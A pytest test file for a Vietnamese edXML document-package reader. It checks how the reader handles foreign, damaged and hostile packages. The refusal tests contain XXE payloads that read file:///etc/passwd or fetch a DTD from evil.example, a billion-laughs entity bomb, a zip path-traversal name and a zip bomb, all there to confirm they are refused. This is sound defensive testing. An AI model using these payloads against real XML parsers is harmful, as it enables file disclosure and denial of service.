"""Packages of others: built otherwise, incomplete, damaged, hostile. Each is read, or refused with the reason."""

from __future__ import annotations

import base64
import time
from contextlib import suppress
from dataclasses import replace
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from giaoban.edxml.guarded import Limits, Refused
from giaoban.edxml.message import Answered, Attachment, Document, Organ, Status
from giaoban.edxml.read import Lacking, Received, received
from giaoban.edxml.write import NAMESPACE, package
from tests.edxml.messages import AT, COMMUNE, DOCUMENT, PAPER, STATUS

SMALL = Document(sender=Organ("A12.34.56"), subject="Báo cáo")
DTD = "Gói có khai báo DTD hoặc thực thể"


def changed(old: str, new: str, message: Document | Status = DOCUMENT) -> bytes:
    """The package with words of it replaced."""
    text = package(message).decode()
    assert old in text
    return text.replace(old, new).encode()


def headed(inside: str, *, files: str = "", body: str = "") -> bytes:
    """A package as somebody else may write it."""
    envelope = f"<edXMLEnvelope><edXMLHeader>{inside}</edXMLHeader>{body}</edXMLEnvelope>{files}"
    return f'<?xml version="1.0" encoding="utf-8"?><edXML xmlns="{NAMESPACE}">{envelope}</edXML>'.encode()


def with_file(content: str, name: str = "a.pdf", key: str = "1") -> bytes:
    """A package with one file."""
    inner = f"<ContentId>{key}</ContentId>{content}<AttachmentName>{name}</AttachmentName>"
    files = f"<AttachmentEncoded><Attachment>{inner}</Attachment></AttachmentEncoded>"
    return headed("<MessageHeader><From><OrganId>A12.34.56</OrganId></From><Subject>Báo cáo</Subject></MessageHeader>", files=files)


def encoded(data: bytes) -> str:
    return f"<ContentTransferEncoded>{base64.b64encode(data).decode()}</ContentTransferEncoded>"


def zipped(data: bytes, *names: str) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, data)
    return out.getvalue()


def files_of(found: Received) -> list[tuple[str, bytes]]:
    assert isinstance(found.message, Document)
    return [(one.name, one.data) for one in found.message.attachments]


# -- built otherwise ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["", "ns2:", "x-1:"])
def test_other_prefixes_are_read(prefix: str) -> None:
    declared = "xmlns:edXML=" if prefix else "xmlns:other="
    text = package(DOCUMENT).decode().replace("edXML:", prefix)
    text = text.replace(declared, f"xmlns:{prefix.rstrip(':')}=") if prefix else text.replace("xmlns:edXML=", "xmlns=")

    assert received(text.encode()) == Received(DOCUMENT)


def test_elements_without_a_namespace_are_read() -> None:
    assert received(changed(f' xmlns:edXML="{NAMESPACE}"', "").replace(b"edXML:", b"")) == Received(DOCUMENT)


def test_any_order_is_read() -> None:
    found = received(
        headed("<MessageHeader><Subject>Báo cáo</Subject><From><OrganName/><OrganId>A12.34.56</OrganId></From></MessageHeader>")
    )

    assert found == Received(SMALL)


def test_business_spelt_right_and_inside_a_trace_is_read() -> None:
    trace = "<TraceHeader><OrganId>A12</OrganId><Timestamp>2026/12/01 14:30:00</Timestamp>{}</TraceHeader>"
    inside = trace.format("<Business><BussinessDocType>1</BussinessDocType><BussinessDocReason>Sai số</BussinessDocReason></Business>")
    header = "<MessageHeader><From><OrganId>A12.34.56</OrganId></From></MessageHeader>"

    found = received(headed(f"{header}<TraceHeaderList>{inside}</TraceHeaderList>"))

    assert isinstance(found.message, Document)
    assert (found.message.business.kind, found.message.business.reason, found.message.traces[0].at, found.remarks) == (1, "Sai số", AT, ())


@pytest.mark.parametrize("text", ["2026/12/01", "2026-12-01", "01/12/2026", "1-12-2026", "2026/12/1", "2026-12-01T14:30:00"])
def test_days_of_others_are_read(text: str) -> None:
    found = received(changed("<edXML:PromulgationDate>2026/12/01<", f"<edXML:PromulgationDate>{text}<"))

    assert found == Received(DOCUMENT)


@pytest.mark.parametrize(
    "text", ["2026/12/01 14:30:00", "2026-12-01T14:30:00", "2026-12-01T07:30:00Z", "01/12/2026 14:30", "2026-12-01T09:30:00.123+02:00"]
)
def test_moments_of_others_are_read(text: str) -> None:
    found = received(changed("2026/12/01 14:30:00", text, STATUS))

    assert found == Received(STATUS)


@pytest.mark.parametrize(("element", "old", "value"), [("DueDate", "2026/12/15", "2026/13/45"), ("Priority", "4", "cao")])
def test_value_that_is_not_understood_is_told_and_left_out(element: str, old: str, value: str) -> None:
    found = received(changed(f"<edXML:{element}>{old}<", f"<edXML:{element}>{value}<"))

    left_out = replace(DOCUMENT, due=None) if element == "DueDate" else replace(DOCUMENT, priority=None)
    assert found == Received(left_out, (f"Không hiểu {element}: “{value}”.",))


def test_foreign_elements_are_passed_over_and_named() -> None:
    foreign = "<edXML:Subject><v:i xmlns:v='urn:v'>x</v:i>Chương trình"
    found = received(changed("<edXML:Subject>Chương trình", f"<edXML:Moi><edXML:Subject>khác</edXML:Subject></edXML:Moi>{foreign}"))

    assert found.message == DOCUMENT
    assert found.remarks == (
        "Đã bỏ qua phần tử lạ “i” (không thuộc QCVN 102:2016).",
        "Đã bỏ qua phần tử lạ “Moi” trong MessageHeader.",
    )


def test_signature_of_the_package_is_told_as_not_looked_at() -> None:
    signature = "<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'><SignedInfo/></Signature><DigitalSignature/>"

    found = received(
        headed(f"<MessageHeader><From><OrganId>A12.34.56</OrganId></From><Subject>Báo cáo</Subject></MessageHeader>{signature}")
    )

    assert found == Received(SMALL, ("Gói có chữ ký XML; chương trình không kiểm tra chữ ký này.",))


def test_words_that_look_like_a_dtd_stay_words() -> None:
    found = received(
        headed("<MessageHeader><From><OrganId>A</OrganId></From><Subject><![CDATA[<!DOCTYPE x><!ENTITY y>]]></Subject></MessageHeader>")
    )

    assert found == Received(Document(sender=Organ("A"), subject="<!DOCTYPE x><!ENTITY y>"))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "utf-16-le"])
def test_encodings_of_unicode_are_read(encoding: str) -> None:
    text = package(DOCUMENT).decode()
    declared = text.replace("encoding='UTF-8'", "encoding='UTF-16'") if "16" in encoding else text

    assert received(declared.encode(encoding)) == Received(DOCUMENT)


# -- files -------------------------------------------------------------------------------------------------------------


def test_file_with_and_without_cid_belongs_to_its_reference() -> None:
    found = received(changed(f"<edXML:ContentId>1.{PAPER.key}<", f"<edXML:ContentId>cid:1.{PAPER.key}<"))

    assert found == Received(DOCUMENT)


def test_file_missing_of_the_manifest_is_told() -> None:
    text = package(DOCUMENT).decode()
    begin, end = text.index("<edXML:Attachment>"), text.index("</edXML:Attachment>") + len("</edXML:Attachment>")

    found = received((text[:begin] + text[end:]).encode())

    assert [name for name, _ in files_of(found)] == ["Phụ lục.xlsx"]
    assert found.lacking == (
        Lacking(PAPER.name, "Gói thiếu tệp đính kèm “Chương trình 15.pdf” có ghi trong danh mục. Hãy đề nghị nơi gửi gửi lại."),
    )


@pytest.mark.parametrize("data", [b"%PDF-1.7 raw", b"", b"PK\x03\x04 cut", zipped(b"x", "[Content_Types].xml", "word/document.xml")])
def test_raw_file_is_read_as_it_is(data: bytes) -> None:
    assert files_of(received(with_file(encoded(data), "Tờ trình.docx"))) == [("Tờ trình.docx", data)]


def test_zipped_file_is_taken_out() -> None:
    assert files_of(received(with_file(encoded(zipped(b"%PDF-1.7 made up", "../../thu-muc/a.pdf"))))) == [("a.pdf", b"%PDF-1.7 made up")]


def test_zip_that_is_meant_stays_a_zip() -> None:
    data = zipped(b"x", "a.txt")

    assert files_of(received(with_file(encoded(data), "ho-so.ZIP"))) == [("ho-so.ZIP", data)]


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ("", "gói không có nội dung của tệp"),
        ("<ContentTransferEncoded>không phải base64!</ContentTransferEncoded>", "nội dung không đúng dạng base64, có thể bị cắt cụt"),
        ("<ContentTransferEncoded>QUJD RA</ContentTransferEncoded>", "nội dung không đúng dạng base64, có thể bị cắt cụt"),
        (encoded(zipped(b"\0" * 30_000_000, "a.pdf")), "tệp nén hỏng, có mật khẩu hoặc bung ra quá lớn"),
        (encoded(zipped(b"x", "a.pdf")[:-30]), "tệp nén hỏng, có mật khẩu hoặc bung ra quá lớn"),
        (encoded(b"x" * 2000), "lớn hơn giới hạn 0 MB"),
    ],
)
def test_file_that_cannot_be_had_is_told_and_the_rest_read(content: str, why: str) -> None:
    found = received(with_file(content), Limits(attachment=1000) if "0 MB" in why else Limits())

    assert found.message == SMALL
    assert found.lacking == (Lacking("a.pdf", f"Không lấy được tệp đính kèm “a.pdf”: {why}. Hãy đề nghị nơi gửi gửi lại."),)


def test_file_of_many_megabytes_is_read() -> None:
    data = bytes(range(256)) * 48_000  # base64 of it is more than a text node may hold by default

    assert files_of(received(package(Document(sender=COMMUNE, attachments=(Attachment("a.pdf", data),))))) == [("a.pdf", data)]


# -- refused -----------------------------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE edXML SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
        "<!-- <a> --><?a <b> ?>\n<!DOCTYPE x>",
        "<!DOCTYPE x [<!ELEMENT x ANY>]>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_dtd_and_entities_are_refused(prolog: str, encoding: str) -> None:
    text = f"<?xml version='1.0' encoding='{encoding}'?>{prolog}<edXML xmlns='{NAMESPACE}'>&e;&l9;</edXML>"

    started = time.monotonic()
    with pytest.raises(Refused, match=DTD):
        received(text.encode(encoding))
    assert time.monotonic() - started < 1


def test_entity_nobody_declared_is_refused() -> None:
    with pytest.raises(Refused, match="XML không đọc được"):
        received(changed("Hai phần:", "&e;"))


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "^Gói rỗng"),
        (b"  \n", "^Gói rỗng"),
        (b"PK\x03\x04", "XML không đọc được"),
        (package(DOCUMENT)[:-20], "XML không đọc được"),
        (b"\xff\xfe<", "^Bảng mã của gói sai"),
        ("<?xml version='1.0' encoding='UTF-8'?><a>Báo cáo</a>".encode("cp1258", "replace"), "^Bảng mã của gói sai"),
        (b"<?xml version='1.0' encoding='windows-1258'?><a/>", "^Gói dùng bảng mã windows-1258, không phải Unicode"),
        (b"<?xml version='1.0' encoding='x-nonsense'?><a/>", "^Gói dùng bảng mã x-nonsense"),
        (b"<EdXMLEnvelope xmlns='http://www.go.vn/eDoc'/>", "^Gói không theo dạng edXML của QCVN 102:2016"),
        (headed(""), "^Gói không theo dạng edXML"),
        (headed("<MessageStatus><From/><ResponseFor/></MessageStatus>"), r"không có mã trạng thái \(StatusCode\)"),
        (headed("<MessageStatus><StatusCode>xong</StatusCode></MessageStatus>"), r"không có mã trạng thái \(StatusCode\)"),
        (headed("<MessageStatus><StatusCode>03</StatusCode></MessageStatus>"), r"không ghi trả lời văn bản nào \(ResponseFor\)"),
        (headed("<a>" * 50 + "</a>" * 50), "^Gói lồng quá nhiều tầng XML"),
        (headed("<a>" * 3000 + "</a>" * 3000), "^Gói lồng quá nhiều tầng XML|XML không đọc được"),
        (headed("<a/>" * 100_001), "^Gói có quá nhiều phần tử XML"),
        (headed(f"<MessageHeader><Subject>{'x' * 100_001}</Subject></MessageHeader>"), "^Phần tử Subject dài bất thường"),
    ],
)
def test_package_that_cannot_be_taken_is_refused(data: bytes, why: str) -> None:
    with pytest.raises(Refused, match=why):
        received(data)


def test_package_over_the_limits_is_refused() -> None:
    with pytest.raises(Refused, match=r"^Gói lớn hơn giới hạn 0 MB nên không nhận\. Hãy đề nghị nơi gửi tách tệp đính kèm\.$"):
        received(package(DOCUMENT), Limits(package=1000))
    many = Document(sender=COMMUNE, attachments=tuple(Attachment(f"{n}.txt", b"x") for n in range(4)))
    with pytest.raises(Refused, match=r"^Gói có hơn 3 tệp đính kèm"):
        received(package(many), Limits(attachments=3))


@pytest.mark.parametrize("message", [DOCUMENT, STATUS])
def test_message_without_a_sender_is_told(message: Document | Status) -> None:
    text = package(message).decode()
    begin, end = text.index("<edXML:From>"), text.index("</edXML:From>") + len("</edXML:From>")

    found = received((text[:begin] + text[end:]).encode())

    assert (found.message.sender, found.remarks) == (Organ(), ("Gói không ghi nơi gửi (From).",))


@pytest.mark.parametrize(("code", "number"), [("03", 3), ("3", 3), ("15", 15), ("99", 99)])
def test_number_of_a_state_is_kept_also_one_not_known(code: str, number: int) -> None:
    found = received(
        headed(
            f"<MessageStatus><ResponseFor><Code>15</Code></ResponseFor><From><OrganId>A</OrganId></From><StatusCode>{code}</StatusCode></MessageStatus>"
        )
    )

    assert found == Received(Status(Answered(code="15"), Organ("A"), number))


@pytest.mark.fuzz
@given(share=st.floats(0, 1, exclude_max=True), bit=st.sampled_from((1, 2, 8, 32, 128)))
def test_damaged_package_is_read_or_refused(share: float, bit: int) -> None:
    data = package(DOCUMENT)
    at = int(share * len(data))
    with suppress(Refused):
        assert isinstance(received(data[:at] + bytes([data[at] ^ bit]) + data[at + 1 :]).message, Document)
